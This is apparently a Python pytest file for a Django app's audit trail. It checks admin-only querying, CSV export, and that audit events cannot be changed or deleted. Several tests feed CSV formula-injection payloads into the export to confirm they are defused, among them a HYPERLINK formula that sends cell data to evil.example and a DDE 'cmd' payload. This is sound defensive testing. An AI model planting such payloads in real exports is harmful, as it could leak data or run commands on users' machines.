"""The audit trail: admins query and export it; nobody can change or delete it."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from django.db import DatabaseError, connection, transaction

from backend.audit.models import AuditAction, AuditEvent
from backend.demo.factories import DEMO_PASSWORD

pytestmark = pytest.mark.django_db


def test_admin_filters_audit_events(api, admin_user, practitioner, case_id, visit_content):
    client = api(practitioner)
    created = client.post(f"/api/cases/{case_id}/visits/", {"content": visit_content}, format="json").json()
    client.get(f"/api/visits/{created['id']}/")
    admin = api(admin_user)
    reads = admin.get("/api/audit/?actor=amy.worker&action=read").json()
    assert reads["count"] == 1
    assert reads["results"][0]["object_id"] == created["id"]
    by_case = admin.get(f"/api/audit/?case_id={case_id}").json()
    assert {e["action"] for e in by_case["results"]} >= {"create", "read", "allocate"}


def test_non_admins_cannot_read_the_audit_trail(api, supervisor, practitioner):
    assert api(supervisor).get("/api/audit/").status_code == 403
    assert api(practitioner).get("/api/audit/export/").status_code == 403


def test_csv_export(api, admin_user, practitioner, case_id):
    response = api(admin_user).get(f"/api/audit/export/?case_id={case_id}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:5] == ["id", "at", "actor_username", "device_id", "action"]
    assert {r[4] for r in rows[1:]} >= {"create", "allocate"}


def test_csv_export_defuses_formulas(api, admin_user, db):
    AuditEvent.objects.create(
        at="2026-11-26T10:00:00Z", action=AuditAction.LOGIN_FAILED, actor_username="=HYPERLINK(1)"
    )
    body = api(admin_user).get("/api/audit/export/?action=login_failed").content.decode()
    assert "'=HYPERLINK(1)" in body


#: Cell starts a spreadsheet runs as a formula (OWASP "CSV injection"), tab and CR included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_issue10_item5_every_csv_cell_is_safe_in_a_spreadsheet(api, admin_user, practitioner, case_id):
    """Issue 10 item 5: a refused replicated ``_id`` shaped like a formula, a user name starting
    with tab or CR, and hostile text in every other column reach the export defused."""
    hostile_id = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    basic = base64.b64encode(b"amy.worker:" + DEMO_PASSWORD.encode()).decode()
    pushed = api().post(
        "/sync/caseload/_bulk_docs",
        {"docs": [{"_id": hostile_id, "type": "visit", "case_id": case_id}]},
        format="json",
        HTTP_AUTHORIZATION=f"Basic {basic}",
    )
    assert pushed.status_code in {200, 201}, pushed.content
    for name in ("-2+3", "@SUM(A1)"):
        assert (
            api().post("/api/auth/token/", {"username": name, "password": "x"}, format="json").status_code
            == 401
        )
    for name in ("\t=cmd|' /C calc'!A0", "\r=1+1"):  # REST trims names; Basic on /sync does not
        credentials = base64.b64encode(f"{name}:x".encode()).decode()
        assert api().get("/sync/caseload/", HTTP_AUTHORIZATION=f"Basic {credentials}").status_code == 401
    AuditEvent.objects.create(
        at="2026-11-26T10:00:00Z",
        action=AuditAction.EXPORT,
        actor_username="ida.admin",
        object_type="+person",
        object_id="-1+1",
        case_id="@case",
        detail={"note": "=1+1"},
    )
    response = api(admin_user).get("/api/audit/export/")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    unsafe = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert unsafe == []
    header = rows[0]
    object_ids = [row[header.index("object_id")] for row in rows[1:]]
    assert "'" + hostile_id in object_ids  # kept, readable, defused
    usernames = {row[header.index("actor_username")] for row in rows[1:]}
    assert {"'\t=cmd|' /C calc'!A0", "'\r=1+1", "'-2+3", "'@SUM(A1)"} <= usernames


def test_issue10_item5_csv_detail_column_is_json(api, admin_user, practitioner, case_id):
    response = api(admin_user).get(f"/api/audit/export/?case_id={case_id}&action=allocate")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows
    for row in rows:
        detail = json.loads(row["detail"])
        assert detail["user"] == "amy.worker" and detail["role"] == "lead"


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_audit_api_is_read_only(api, admin_user, method):
    response = getattr(api(admin_user), method)("/api/audit/", {}, format="json")
    assert response.status_code == 405


def test_database_refuses_to_update_audit_events(admin_user):
    event = AuditEvent.objects.create(at="2026-11-26T10:00:00Z", action=AuditAction.LOGIN, actor=admin_user)
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).update(action="logout")
    if connection.vendor == "postgresql":
        with pytest.raises(DatabaseError), transaction.atomic():
            AuditEvent.objects.filter(pk=event.pk).delete()
    assert AuditEvent.objects.get(pk=event.pk).action == AuditAction.LOGIN
